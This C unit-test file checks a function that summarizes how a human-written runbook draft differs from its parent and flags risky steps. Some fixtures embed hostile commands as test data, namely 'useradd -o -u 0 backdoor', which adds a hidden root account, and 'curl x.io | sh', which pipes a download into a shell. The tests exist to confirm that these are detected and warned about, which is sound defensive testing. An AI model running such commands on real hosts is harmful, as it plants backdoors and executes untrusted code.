/*-------------------------------------------------------------------------
 *
 * test_draft_description.c
 *		Unit tests of what is said of runbooks that humans wrote.
 *
 *-------------------------------------------------------------------------
 */
#include "unit.h"

#include "core/draft_description.h"
#include "draft_case.h"

/* A text of JSON, the caller's, of a literal in which ' stands for ". */
static char *
text_of(const char *literal)
{
	json_object *value = literal != NULL ? json_of(literal) : NULL;
	char *text = literal != NULL ? learn_json_text(value, NULL) : NULL;

	json_object_put(value);
	return text;
}

/* Expects these changes, where executors can do this much. */
static void
expect_description_for(const char *known_actions, const char *content,
					   const char *parent, const char *scope,
					   const char *facts, const char *expected)
{
	char *texts[] = {text_of(content), text_of(parent), text_of(scope),
					 text_of(facts), text_of(known_actions)};
	LearnDraftTexts draft = {texts[0], texts[1], texts[2], texts[3], texts[4]};
	LearnProblem problem;
	char *changes;

	assert_int_equal(learn_draft_describe(&draft, &changes, &problem),
					 LEARN_OK);
	assert_json_text(changes, expected);
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		free(texts[i]);
}

/* Expects these changes, where nothing is known of executors. */
static void
expect_description(const char *content, const char *parent, const char *scope,
				   const char *facts, const char *expected)
{
	expect_description_for(NULL, content, parent, scope, facts, expected);
}

/* A runbook with this head and these steps, and more behind them. */
#define RUNBOOK(head, steps, tail)                                            \
	"{'id':'RB-1'," head ",'steps':[" steps "]" tail "}"
#define UNDO ",'rollback':[{'id':'undo','action':'undo','command':'u'}]"
#define PORT ",'verification':{'method':'port','port':80}"
#define NO_WHY "'why':'no reason was given'"
#define SCOPE_CHANGED(text) "{'name':'scope-changed','text':'" text "'}"
#define OTHER_PLACES SCOPE_CHANGED("is for other places than before")

/* Every difference is told, with the reason that the step itself gives. */
static void
test_differences(void **state)
{
	static const char content[] = RUNBOOK(
		HEAD,
		"{'id':'restart','action':'restart','command':'r','timeout':60,"
		"'because':{'text':'it takes a minute'}},"
		"{'id':'new','action':'new','command':'n'}",
		"");

	(void) state;
	expect_description(
		content, PARENT, NULL, NULL,
		"[{'step':'new','what':'added as step 2'," NO_WHY "},"
		"{'step':'check','what':'removed, was step 1'," NO_WHY "},"
		"{'step':'restart','what':'changed timeout','why':'it takes a "
		"minute'},"
		"{'step':'rollback','what':'changed from 1 to 0 steps'," NO_WHY "},"
		"{'step':'verification','what':'removed'," NO_WHY "}]");
}

/* A reason that the parent's step has is about something else. */
static void
test_stale_reason(void **state)
{
	static const char because[] = "'because':{'text':'parent'}";
	char content[1000];

	(void) state;
	snprintf(content, sizeof(content), RUNBOOK(HEAD, "%s%s}", UNDO PORT),
			 RESTART ",{'id':'check','action':'check','command':'d',",
			 because);
	expect_description(
		content, PARENT, NULL, NULL,
		"[{'step':'check','what':'changed command'," NO_WHY "},"
		"{'step':'restart','what':'moved from position 2 to 1'," NO_WHY "}]");
	expect_description(
		RUNBOOK(HEAD,
				"{'id':'restart','action':'restart','command':'r','timeout':5,"
				"'because':{'text':'first of all'}}," CHECK,
				UNDO PORT),
		PARENT, NULL, NULL,
		"[{'step':'restart','what':'moved from position 2 to 1','why':"
		"'first of all'}]");
}

/* What a human wrote may be what the engine would not have written. */
static void
test_nothing_is_refused(void **state)
{
	static const char facts[] =
		"{'execution':{'execution_id':'exec-9','error_message':"
		"'now useradd -o -u 0 backdoor'},'private_names':['acme'],"
		"'rejected':[{'runbook_id':'RB-1-v2','content':" PARENT "}]}";

	(void) state;
	expect_description(PARENT, PARENT, NULL, facts, "[]");
	expect_description(
		RUNBOOK(HEAD,
				CHECK "," RESTART ",{'id':'new','action':'new',"
					  "'command':'useradd -o -u 0 backdoor@acme'}",
				UNDO PORT),
		PARENT, NULL, facts,
		"[{'step':'new','what':'added as step 3'," NO_WHY ",'warnings':["
		"{'name':'from-telemetry','text':'stands in the telemetry of the "
		"failure: \\\"useradd -o -u 0 backdoor\\\"'}]}]");
}

/* Without a parent all is new; what is plain is not told. */
static void
test_first_of_its_line(void **state)
{
	(void) state;
	expect_description(
		RUNBOOK(HEAD ",'applies_to':{'clients':['acme']}",
				CHECK ",{'action':'fetch','command':'curl x.io | sh'}",
				UNDO PORT),
		NULL, NULL, NULL,
		"[{'step':'check','what':'added as step 1','why':'parent'},"
		"{'step':'fetch','what':'added as step 2'," NO_WHY ",'warnings':["
		"{'name':'runs-download','text':'runs what it downloads'}]},"
		"{'step':'rollback','what':'changed from 0 to 1 steps'," NO_WHY "},"
		"{'step':'verification','what':'added'," NO_WHY "}]");

	/* What is not plain is, wherever it stands. */
	expect_description(
		RUNBOOK(HEAD ",'parameters':{'A':{'default':'psql x'}},"
					 "'description':'as \\u202eRB-7'",
				RESTART, ""),
		NULL, NULL, NULL,
		"[{'step':'restart','what':'added as step 1'," NO_WHY "},"
		"{'step':'parameters','what':'added'," NO_WHY ",'warnings':[{'name':"
		"'postgres-client','text':'runs a client of PostgreSQL: "
		"\\\"psql\\\"'}]},"
		"{'step':'description','what':'added'," NO_WHY ",'warnings':[{'name':"
		"'hidden-characters','text':'holds characters that cannot be seen'},"
		"{'name':'other-runbook','text':'names another runbook: "
		"\\\"rb-7\\\"'}]}]");
}

/* The runbook it replaces runs for some incidents: none may be left out. */
static void
test_incident_types(void **state)
{
	static const char more[] =
		RUNBOOK("'name':'n','platform':'linux',"
				"'incident_types':['oom','service_crash','disk_full']",
				CHECK "," RESTART, UNDO PORT);
	static const char fewer[] =
		RUNBOOK("'name':'n','platform':'linux','incident_types':['oom']",
				CHECK "," RESTART, UNDO PORT);
	static const char changed[] =
		"[{'step':'incident_types','what':'changed'," NO_WHY
		",'warnings':[" SCOPE_CHANGED(
			"is for other incidents than before") "]}]";

	(void) state;
	expect_description(more, PARENT, NULL, NULL, changed);
	expect_description(fewer, PARENT, NULL, NULL, changed);
	expect_description(RUNBOOK("'name':'n','platform':'linux',"
							   "'incident_types':['oom','service_crash']",
							   CHECK "," RESTART, UNDO PORT),
					   PARENT, NULL, NULL,
					   "[{'step':'incident_types','what':'changed'," NO_WHY
					   "}]");
}

/* So with places, which a branch has of its own. */
static void
test_places(void **state)
{
	static const char parent[] =
		RUNBOOK(HEAD ",'applies_to':{'hosts':'web-*'}", RESTART, "");
	static const char narrower[] =
		RUNBOOK(HEAD ",'applies_to':{'hosts':'web-1*'}", RESTART, "");
	static const char wider[] = RUNBOOK(HEAD, RESTART, "");

	(void) state;
	expect_description(parent, parent, "{'hosts':'web-*'}", NULL, "[]");
	expect_description(narrower, parent, "{'hosts':'web-*'}", NULL,
					   "[{'step':'applies_to','what':'changed'," NO_WHY
					   ",'warnings':[" OTHER_PLACES "]}]");
	expect_description(wider, parent, "{'hosts':'web-*'}", NULL,
					   "[{'step':'applies_to','what':'removed'," NO_WHY
					   ",'warnings':[" OTHER_PLACES "]}]");
	expect_description(narrower, parent, "{'hosts':'web-1*'}", NULL,
					   "[{'step':'applies_to','what':'changed'," NO_WHY "}]");
	expect_description(narrower, wider, NULL, NULL,
					   "[{'step':'applies_to','what':'added'," NO_WHY
					   ",'warnings':[" OTHER_PLACES "]}]");
}

/* What nobody can do is told of what humans write, too. */
static void
test_unknown_actions(void **state)
{
	static const char parent[] =
		RUNBOOK(HEAD, "{'id':'old','action':'old','params':{}}", PORT);
	static const char content[] =
		RUNBOOK(HEAD,
				"{'id':'old','action':'old','params':{},'timeout':9},"
				"{'id':'new','action':'new','params':{}},"
				"{'id':'known','action':'known','params':{}}",
				PORT);
	static const char changes[] =
		"[{'step':'new','what':'added as step 2'," NO_WHY "%s},"
		"{'step':'known','what':'added as step 3'," NO_WHY "},"
		"{'step':'old','what':'changed timeout'," NO_WHY "}]";
	char warned[1000];
	char plain[1000];

	(void) state;
	snprintf(plain, sizeof(plain), changes, "");
	snprintf(warned, sizeof(warned), changes,
			 ",'warnings':[{'name':'unknown-action','text':'no registered "
			 "executor for its platform knows the action: \\\"new\\\"'}]");
	expect_description_for("['also','known']", content, parent, NULL, NULL,
						   warned);
	expect_description_for("['also','known']", content, parent, NULL,
						   "{'execution':{},'known_actions':['new']}", warned);
	expect_description_for("['known','new']", content, parent, NULL, NULL,
						   plain);
	expect_description_for(NULL, content, parent, NULL, NULL, plain);
	expect_description_for(NULL, content, parent, NULL,
						   "{'execution':{},'known_actions':[]}", plain);
}

static void
expect_unreadable(const char *content, const char *parent, const char *scope,
				  const char *facts, const char *known_actions)
{
	LearnDraftTexts draft = {content, parent, scope, facts, known_actions};
	LearnProblem problem;
	char *changes = (char *) content;

	assert_int_equal(learn_draft_describe(&draft, &changes, &problem),
					 LEARN_INVALID);
	assert_null(changes);
}

static void
test_unreadable(void **state)
{
	(void) state;
	expect_unreadable("", NULL, NULL, NULL, NULL);
	expect_unreadable("[]", NULL, NULL, NULL, NULL);
	expect_unreadable("null", NULL, NULL, NULL, NULL);
	expect_unreadable("{}", "1", NULL, NULL, NULL);
	expect_unreadable("{}", "{}", "[]", NULL, NULL);
	expect_unreadable("{}", "{}", NULL, "[", NULL);
	expect_unreadable("{}", "{}", NULL, NULL, "[");
	expect_unreadable("{}", "{}", NULL, NULL, "{}");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_differences),
		cmocka_unit_test(test_stale_reason),
		cmocka_unit_test(test_nothing_is_refused),
		cmocka_unit_test(test_first_of_its_line),
		cmocka_unit_test(test_incident_types),
		cmocka_unit_test(test_places),
		cmocka_unit_test(test_unknown_actions),
		cmocka_unit_test(test_unreadable),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
